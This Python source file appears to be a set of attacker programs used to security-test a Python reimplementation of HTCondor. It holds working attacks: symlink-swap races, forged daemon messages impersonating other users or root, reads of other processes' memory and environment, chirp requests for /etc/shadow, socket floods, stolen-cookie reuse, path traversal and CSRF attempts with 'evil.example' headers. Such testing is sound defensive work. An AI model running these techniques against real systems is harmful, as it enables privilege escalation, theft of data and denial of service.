"""Programs that the attacking accounts run by themselves or as jobs: ``collusion_programs.py NAME [ARGUMENT ...]``.

They need nothing but Python and this package. What they print is read by the campaign: lines that begin with SIGNALLED,
TRACED, READ, WRITABLE, SESSION, MARKUP or "SECRET FILE" are
successes.
"""

from __future__ import annotations

import ctypes
import glob
import http.client
import json
import os
import random
import re
import resource
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

_libc = ctypes.CDLL(None)
#: Names that are exchanged for links, wherever they are found.
_NAMES = (
    "out", "o", "e", "l", "got", "work", "_condor_stdout", "_condor_stderr", ".job.ad", ".machine.ad", "tmp",
    ".chirp.config", ".update.ad", "condor_exec.exe", ".job_wrapper_failure", "job.sub", "d.dag.dagman.out",
)  # fmt: skip
#: What is read of another's process.
_OF_PROCESSES = ("environ", "mem", "maps", "fd/0", "fd/1", "fd/3", "fd/5", "cwd/diary", "root/etc/shadow")


def swap(eve: str, mallory: str, execute: str, seed: str, *goals: str) -> None:
    """Exchange files and directories for links to one of the goals and back, as fast as it goes."""
    chance = random.Random(int(seed))
    end = time.monotonic() + 40
    while time.monotonic() < end:
        for top in (eve, mallory, *glob.glob(f"{execute}/dir_*/scratch"), *glob.glob(f"{mallory}/*/")):
            _exchange(f"{top}/{chance.choice(_NAMES)}", chance.choice(goals))
        time.sleep(chance.choice((0, 0, 0.001, 0.01)))


def _exchange(path: str, goal: str) -> None:
    spare = path + ".swapped"
    try:
        if not os.path.lexists(spare):
            os.symlink(goal, spare)
        if _libc.renameat2(-100, path.encode(), -100, spare.encode(), 2):
            os.rename(spare, path)
    except OSError:
        pass


def forge(sockets: str, seed: str, cluster: str, execute: str, pretences: str) -> None:
    """Send every kind of message to every daemon and starter, with fields that name the victim, their job or root."""
    from condor_py.client.wire import Client, WireError
    from condor_py.model.messages.claims import BY_STARTD
    from condor_py.model.messages.credentials import BY_CREDD
    from condor_py.model.messages.cycles import BY_NEGOTIATOR
    from condor_py.model.messages.master import BY_MASTER
    from condor_py.model.messages.queue import BY_SCHEDD
    from condor_py.model.messages.sessions import AT_DOOR

    chance, number = random.Random(int(seed)), int(cluster)
    daemons = {"master": BY_MASTER, "schedd": BY_SCHEDD, "startd": BY_STARTD, "negotiator": BY_NEGOTIATOR,
               "credd": BY_CREDD}  # fmt: skip
    places = [(f"{sockets}/{name}", kinds) for name, kinds in daemons.items()]
    places += [(path, AT_DOOR) for path in glob.glob(f"{execute}/dir_*/.sessions")] * 2
    submit = [[number, json.loads(pretences), [[["ProcId", "0"], ["JobStatus", "1"]]], None]]
    bodies = [b"", b"secret", json.dumps(submit).encode(), json.dumps([[number, 0, [["Owner", '"mallory"']]]]).encode()]
    values, end = _values(number), time.monotonic() + 8
    for path, kinds in places:
        for kind in [*kinds.kinds.values()] * 3:
            if time.monotonic() > end:
                return
            try:
                with Client(path, 1.0) as client:
                    client.send(_filled(kind, values, chance), chance.choice(bodies))
                    print(str(client.receive())[:300])
            except (WireError, OSError, ValueError):
                continue


def _values(cluster: int) -> dict[str, list[Any]]:
    """What fields of messages may be filled with, by their names."""
    job, text = [cluster, 0], f"{cluster}.0"
    return {
        "job": [job, text], "ids": [[job]], "clusters": [[cluster]], "constraint": ["true", f"ClusterId=={cluster}"],
        "user": ["victim", "victim@example.net", "root"], "owner": ["victim", "root"],
        "action": ["hold", "remove", "removex", "add", "delete", "query", "export", "import", "create", "disable",
                   "edit", "release", "vacate"],
        "assignments": [[["JobPrio", "99"]], [["Owner", '"mallory"']], [["Cmd", '"/bin/false"']], [["Out", '"x"']]],
        "reason": ["mine now"], "claim": ["<x>#1#1", "slot1_1"], "slot": ["slot1_1", "slot1"], "wait": [False],
        "node": [0, -1], "identity": ["victim@example.net", "root@example.net"],
        "kind": ["oauth", "krb", "password", "Owner"], "service": ["box", "../victim/box"], "text": ["words"],
        "victims": [[job]], "command": ["cat inner/diary"], "shells": [["/bin/sh"]], "terminal": [False],
        "variables": [[]], "count": [1], "rights": [[]], "lifetime": [60], "key": ["POOL"], "client": ["x"],
        "request": ["1"], "netblock": ["127.0.0.0/8"], "how": ["fast"], "expected": [cluster],
        "requests": [[["victim", [["MaxJobsRunning", "0"]]]]], "pairs": [[["START", "false"]]], "begun": [1],
        "names": [["START"]], "assign": [[["START", "false"]]], "daemon": ["schedd"], "daemons": [["schedd"]],
    }  # fmt: skip


def _filled(kind: Any, values: dict[str, list[Any]], chance: random.Random) -> dict[str, Any]:
    head: dict[str, Any] = {"op": kind.op}
    for name in kind.__match_args__:
        if name in values:
            head[name] = chance.choice(values[name])
        elif chance.random() < 0.5:
            head[name] = chance.choice([0, 1, "", "victim", [], True, None, "victim@example.net"])
    for name in ("owner", "user", "uid", "peer", "caller"):
        if chance.random() < 0.3 and name not in head:
            head[name] = chance.choice(["victim", "root", 0])
    return head


#: Attributes whose values are paths or texts that daemons use.
_PATHS = (
    "Cmd", "Iwd", "In", "Out", "Err", "UserLog", "TransferInput", "TransferOutput", "TransferOutputRemaps", "Args",
    "Env", "Environment", "DAGManNodesLog", "JobBatchName", "LeaveJobInQueue", "OnExitHoldReason", "PeriodicHoldReason",
    "x509userproxy", "ToolDaemonCmd", "PreCmd", "PostCmd", "NotifyUser", "EmailAttributes", "OutputDestination",
    "GridResource", "HookKeyword", "SUBMIT_Cmd", "MY.Owner",
)  # fmt: skip


def submit(sockets: str, seed: str, cluster: str, told: str) -> None:
    """Submit past all tools; ``told`` is JSON: home, program, trap, pretences, values and texts."""
    from condor_py.client.wire import Client, WireError

    known, chance = json.loads(told), random.Random(int(seed))
    for _ in range(12):
        ad = _odd_ad(known, chance)
        try:
            with Client(f"{sockets}/schedd", 5.0) as client:
                client.send({"op": "new-clusters", "count": 1})
                first = client.receive()[0].get("first", int(cluster))
                if chance.random() < 0.1:
                    first = int(cluster)
                proc = [["ProcId", str(chance.choice([0, 0, 0, 1, -1]))], ["JobStatus", chance.choice("11124")]]
                client.send({"op": "submit"}, json.dumps([[first, list(ad.items()), [proc], None]]).encode())
                print(str(client.receive())[:300])
        except (WireError, OSError, UnicodeError) as error:
            print(error)


def _odd_ad(known: dict[str, Any], chance: random.Random) -> dict[str, str]:
    trap, texts = known["trap"], known["texts"]
    ad = {"Cmd": json.dumps(known["program"]), "JobUniverse": chance.choice(["5", "5", "5", "5", "7", "12", "11", "9"]),
          "RequestCpus": "1", "RequestMemory": "1", "RequestDisk": "1", "Iwd": json.dumps(known["home"]), "Out": '"o"',
          "UserLog": '"l"', "Requirements": "true"}  # fmt: skip
    ad.update(chance.sample(known["pretences"], chance.randint(0, 3)))
    for name in chance.sample(_PATHS, 3):
        odd = chance.choice([
            trap, f"{trap}\0", f"\0{trap}", f"{trap}\nX", f"a\0/../{trap}", f"//{trap}", "./" * 500 + trap,
            chance.choice(texts), "x" * 5000, f"-rf {trap}", "~victim/private", f"{trap}/", f"{trap}/..",
        ])  # fmt: skip
        ad[name] = chance.choice([json.dumps(odd), f'"{odd}"', chance.choice(known["values"])])
    if chance.random() < 0.2:
        ad[chance.choice(["A B", "A\nB", "103 1.0 Owner", "", "Owner ", "\0", "owner", "OWNER"])] = '"victim"'
    return ad


def probe(execute: str, log: str, spool: str) -> None:
    """As a job: signal, trace and read what others run, look for files that are open to it, talk to all ports."""
    for name in os.listdir("/proc/self/fd"):
        try:
            print("descriptor", name, os.readlink(f"/proc/self/fd/{name}"))
        except OSError:
            continue
    for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):
        _touch(pid)
    for pattern in (f"{execute}/*/*", f"{execute}/*/.*", f"{execute}/*/*/*", f"{spool}/*", f"{log}/*/*"):
        for path in glob.glob(pattern):
            _look(path)
    chirp = os.environ.get("_CONDOR_CHIRP_CONFIG", "")
    mine = Path(chirp).read_text().split() if chirp else []
    _ports(mine)
    if mine:
        _chirp(mine, execute)


def _touch(pid: int) -> None:
    try:
        words = Path(f"/proc/{pid}/cmdline").read_text()
        if os.stat(f"/proc/{pid}").st_uid == os.getuid() or ("condor_py" not in words and "sleep" not in words):
            return
    except OSError:
        return
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGHUP, signal.SIGRTMIN):
        try:
            os.kill(pid, number)
            print("SIGNALLED", pid, repr(words))
        except OSError:
            continue
    if _libc.ptrace(16, pid, 0, 0) == 0:
        print("TRACED", pid, repr(words))
    for name in _OF_PROCESSES:
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                print("READ", pid, name, file.read(300))
        except OSError:
            continue


def _look(path: str) -> None:
    try:
        if os.stat(path).st_uid == os.getuid() or "daemon_sock" in path or path.endswith("/.sessions"):
            return
        if os.access(path, os.W_OK):
            print("WRITABLE", path)
        if any(word in path for word in ("cred", "chirp", "job_queue")):
            with open(path, "rb") as file:
                print("SECRET FILE", path, file.read(200))
    except OSError:
        pass


def _ports(mine: list[str]) -> None:
    """Say to all that listen on loopback what would be right at our own port."""
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    ports = {int(words[1].partition(":")[2], 16) for words in lines if words[3] == "0A"}
    cookie = mine[2] if mine else "0" * 40
    for port in ports:
        if mine and str(port) == mine[1]:
            continue
        try:
            with socket.create_connection(("127.0.0.1", port), 0.5) as link:
                link.settimeout(0.5)
                link.sendall(f"cookie {cookie}\nget_job_attr Owner\nfetch diary\n".encode())
                print("port", port, link.recv(200))
        except OSError:
            continue


def _chirp(mine: list[str], execute: str) -> None:
    with socket.create_connection((mine[0], int(mine[1])), 2) as link:
        link.settimeout(1)
        for line in (
            f"cookie {mine[2]}", 'set_job_attr Owner "victim"', 'set_job_attr User "victim@example.net"',
            'set_job_attr Cmd "/bin/sh"', "set_job_attr JobStatus 4", 'set_job_attr_delayed Owner "victim"',
            'set_job_attr Text "a\x1b[2Jb"', "ulog a\x1b[2J\x0111/29/26 00:00:00 x", "phase x\0y",
            "open /../../../../../../etc/shadow r 0", f"open {execute}/../private/inner/diary r 0",
            "getfile /etc/shadow", "putfile /etc/evil 0666 1", "lsalloc x 99999999999999999999", "version x" * 2000,
        ):  # fmt: skip
            try:
                link.sendall(line.encode() + b"\n")
                print("chirp", repr(line[:40]), link.recv(200))
            except OSError as error:
                print("chirp", repr(line[:40]), error)


def talk(sockets: str, text: str, cluster: str) -> None:
    """Give a text to daemons wherever a message has one."""
    from condor_py.client.wire import Client, WireError

    job = [int(cluster), 0]
    for name, head in (
        ("schedd", {"op": "act", "action": text, "ids": [job]}), ("schedd", {"op": text}),
        ("schedd", {"op": "act", "action": "hold", "ids": [job], "reason": text}),
        ("schedd", {"op": "ulog", "job": job, "text": text}), ("master", {"op": "off", "reason": text}),
        ("startd", {"op": "drain", "reason": text}),
        ("credd", {"op": "store-credential", "action": "add", "kind": "oauth", "service": text}),
        ("schedd", {"op": "token-request", "identity": text, "client": text, "rights": [text], "lifetime": 1}),
        ("schedd", {"op": "fetch-token", "rights": [text], "lifetime": 1, "key": text}),
    ):  # fmt: skip
        try:
            with Client(f"{sockets}/{name}", 2.0) as client:
                client.send(head)
                print(str(client.receive())[:200])
        except (WireError, OSError, UnicodeError) as error:
            print(repr(error)[:200])


def hold(sockets: str, seed: str) -> None:
    """Hold as many connections to all daemons as there can be, with parts of messages, and never read."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    chance, held = random.Random(int(seed)), []
    for path in glob.glob(f"{sockets}/*"):
        for _ in range(700):
            link = socket.socket(socket.AF_UNIX)
            link.setblocking(False)
            try:
                link.connect(path)
            except OSError:
                break
            held.append(link)
    parts = [
        struct.pack("!II", 2, 60 << 20) + b"{}" + b"x" * 60000, struct.pack("!II", 50, 0) + b'{"op": "query"',
        b"\xff" * 8, _message(b'{"op": "query"'), _message(b'{"op": "query"}'), _message(b'{"op": "sync"}'),
    ]  # fmt: skip
    kinds, end = [chance.choice(parts) for _ in held], time.monotonic() + 20
    while time.monotonic() < end:
        for link, part in zip(held, kinds, strict=True):
            try:
                if chance.random() < 0.02:
                    socket.send_fds(link, [part[:100]], [0, 1, 2] * 5)
                else:
                    link.send(part)
            except OSError:
                continue


def _message(head: bytes) -> bytes:
    return struct.pack("!II", len(head), 0) + head


def bind(path: str) -> None:
    """A socket in place of a file."""
    socket.socket(socket.AF_UNIX).bind(path)


def browse(address: str, job: str, mine: str, cookie: str = "") -> None:
    """Log in, or use the ``cookie`` of another account, read pages that name others, and send forms for their job."""
    place = urlsplit(address)
    where = place.hostname or "", place.port or 0
    stolen = bool(cookie)
    if not stolen:
        _, headers, _ = _ask(where, "GET", place.path, {})
        cookie = headers.get("set-cookie", "").partition(";")[0]
        print("cookie", cookie)
    status, _, front = _ask(where, "GET", "/queue?format=json", {"Cookie": cookie})
    if stolen and status == 200:
        print("SESSION of another account is good for us", front[:200])
    names = ("queue", "history", "machine", "dag", "why", "shares", "wall", "users", "jobs")
    paths = [f"/queue/{mine}", f"/queue/{mine.partition('.')[0]}"]  # pages with the token of the session
    paths += [f"/{name}" for name in names] + [f"/{name}/{job}" for name in names]
    paths += [f"/queue/{job}/{rest}" for rest in ("output", "files/output", "../../../../../etc/shadow", "log")]
    paths += [f"/static/{rest}" for rest in ("../main.py", "..%2fmain.py", "/etc/passwd", "%00")]
    found = set()
    for path in paths:
        _, _, text = _ask(where, "GET", path, {"Cookie": cookie})
        found |= set(re.findall(r'name="token" value="([^"]+)"', text))
        if any(mark in text for mark in ("<script>alert", "<img src=x", "root:x:", "import annotations")):
            print("MARKUP or a file that is none of ours at", path)
        print(path, len(text), "dear" in text and text[:500])
    for token in (*found, "", "x"):
        for headers in ({}, {"Origin": "http://evil.example"}, {"Host": "evil.example"}, {"Sec-Fetch-Site": "none"}):
            for action in ("hold", "remove", "prio"):
                form = urlencode({"token": token, "action": action, "jobs": job, "priority": "20"})
                kind = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}
                status, _, text = _ask(where, "POST", "/act", {**kind, **headers}, form)
                print("form", action, status, text[:80].replace("\n", " "))


def _ask(
    where: tuple[str, int], method: str, path: str, headers: dict[str, str], body: str = ""
) -> tuple[int, dict[str, str], str]:
    """Status, headers and text of an answer; 0 where there is none."""
    connection = http.client.HTTPConnection(*where, timeout=20)
    try:
        connection.request(method, path, body=body or None, headers=headers)
        answer = connection.getresponse()
        told = {name.lower(): value for name, value in answer.getheaders()}
        return answer.status, told, answer.read(1 << 20).decode(errors="replace")
    except (OSError, http.client.HTTPException, ValueError) as error:
        return 0, {}, str(error)
    finally:
        connection.close()


PROGRAMS: dict[str, Callable[..., None]] = {
    each.__name__: each for each in (swap, forge, submit, probe, talk, hold, bind, browse)
}

if __name__ == "__main__":
    PROGRAMS[sys.argv[1]](*sys.argv[2:])
